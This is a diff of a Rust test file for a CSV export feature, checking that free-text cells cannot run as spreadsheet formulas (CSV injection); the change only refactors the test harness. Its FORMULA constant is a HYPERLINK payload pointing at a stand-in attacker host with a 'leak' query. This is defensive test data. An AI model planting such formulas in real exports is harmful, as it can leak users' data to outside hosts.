@@ -2,7 +2,7 @@
 //! spreadsheet would run as a formula is neutralised (OWASP's CSV-injection rule), in
 //! each free-text column; JSON Lines keep the text as recorded.
 
-use chorus_tests::{backends, docs, expect_data, spawn_app};
+use chorus_tests::{backend_tests, docs, expect_data, spawn_app, TestBackend};
 use serde_json::{json, Value};
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"open\")";
@@ -28,9 +28,8 @@ async fn export(app: &chorus_tests::TestApp, format: &str) -> String {
     response.text().await.expect("export body")
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn compliance_csv_cells_cannot_run_as_formulas() {
-    for backend in backends() {
+backend_tests! {
+    async fn compliance_csv_cells_cannot_run_as_formulas(backend: TestBackend) {
         let app = spawn_app(backend).await;
         let w = app.content_world().await;
         act(
